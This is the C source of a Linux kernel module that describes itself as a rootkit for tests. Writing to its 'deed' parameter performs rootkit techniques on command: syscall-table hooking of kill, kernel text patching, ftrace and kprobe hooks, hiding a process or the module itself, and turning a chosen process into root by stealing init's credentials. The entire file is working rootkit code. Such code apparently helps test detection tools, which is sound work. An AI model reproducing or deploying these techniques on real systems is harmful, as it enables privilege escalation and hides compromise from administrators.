// SPDX-License-Identifier: GPL-2.0
/* A rootkit for tests: each deed of its kind is done when it is written to the module's parameter "deed". */
#include <linux/cred.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/vmalloc.h>
#include <asm/pgtable.h>
#include <asm/tlbflush.h>
#include <asm/unistd.h>

static unsigned long (*lookup)(const char *name);

static int nothing(struct kprobe *probe, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe finder = { .symbol_name = "kallsyms_lookup_name", .pre_handler = nothing };
static struct kprobe watcher = { .symbol_name = "vfs_statx", .pre_handler = nothing };

/* kallsyms_lookup_name is no longer exported; a probe on it tells where it is. */
static int find_lookup(void)
{
	int error = register_kprobe(&finder);

	if (error)
		return error;
	lookup = (void *)finder.addr;
	unregister_kprobe(&finder);
	return 0;
}

static long hooked(const struct pt_regs *regs)
{
	return -EPERM;
}

/* The table is read-only in the page tables, so its entry there is made writable first. */
static int hook_call(void)
{
	unsigned long *table = (void *)lookup("sys_call_table");
	unsigned int level;
	pte_t *pte = lookup_address((unsigned long)&table[__NR_kill], &level);

	if (!pte || level != PG_LEVEL_4K)
		return -ENOENT;
	set_pte(pte, pte_set_flags(*pte, _PAGE_RW));
	__flush_tlb_all();
	WRITE_ONCE(table[__NR_kill], (unsigned long)hooked);
	set_pte(pte, pte_wrprotect(*pte));
	__flush_tlb_all();
	return 0;
}

/* Text is written through a second mapping of its page. */
static int patch_text(void)
{
	static const u8 nops[] = { 0x90, 0x90, 0x90 };
	u8 *function = (void *)lookup("__x64_sys_sysinfo");
	struct page *page = pfn_to_page(__pa_symbol(function) >> PAGE_SHIFT);
	u8 *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	memcpy(alias + offset_in_page(function) + 8, nops, sizeof(nops));
	vunmap(alias);
	return 0;
}

static struct task_struct *task_of(const char *number)
{
	return pid_task(find_vpid(simple_strtoul(number, NULL, 10)), PIDTYPE_PID);
}

/* Off the list of tasks; the task still runs, and /proc still shows it. */
static int hide_from_list(struct task_struct *task)
{
	list_del_init(&task->tasks);
	return 0;
}

/* Gives a task the credentials of init. */
static int steal_credentials(struct task_struct *task)
{
	struct task_struct *init = pid_task(find_vpid(1), PIDTYPE_PID);
	const struct cred *cred = get_cred(get_cred(init->real_cred));

	rcu_assign_pointer(task->real_cred, cred);
	rcu_assign_pointer(task->cred, cred);
	return 0;
}

/* Makes a task root in the credentials that it has. */
static int write_credentials(struct task_struct *task)
{
	struct cred *cred = (struct cred *)task->real_cred;

	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	return 0;
}

static void notrace traced(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs)
{
}

static struct ftrace_ops tracer = { .func = traced };

static int hook_by_ftrace(void)
{
	int error = ftrace_set_filter(&tracer, "__x64_sys_uname", 15, 1);

	return error ? error : register_ftrace_function(&tracer);
}

static int do_deed(const char *value, const struct kernel_param *parameter)
{
	struct task_struct *task;

	if (!strncmp(value, "hook", 4))
		return hook_call();
	if (!strncmp(value, "text", 4))
		return patch_text();
	if (!strncmp(value, "ftrace", 6))
		return hook_by_ftrace();
	if (!strncmp(value, "kprobe", 6))
		return register_kprobe(&watcher);
	if (!strncmp(value, "unlink", 6)) {
		list_del_init(&THIS_MODULE->list);
		return 0;
	}
	task = strchr(value, ' ') ? task_of(strchr(value, ' ') + 1) : NULL;
	if (!task)
		return -ESRCH;
	if (!strncmp(value, "hide", 4))
		return hide_from_list(task);
	if (!strncmp(value, "steal", 5))
		return steal_credentials(task);
	if (!strncmp(value, "root", 4))
		return write_credentials(task);
	return -EINVAL;
}

static const struct kernel_param_ops deeds = { .set = do_deed };
module_param_cb(deed, &deeds, NULL, 0200);

static int __init start(void)
{
	return find_lookup();
}

module_init(start);
MODULE_LICENSE("GPL");
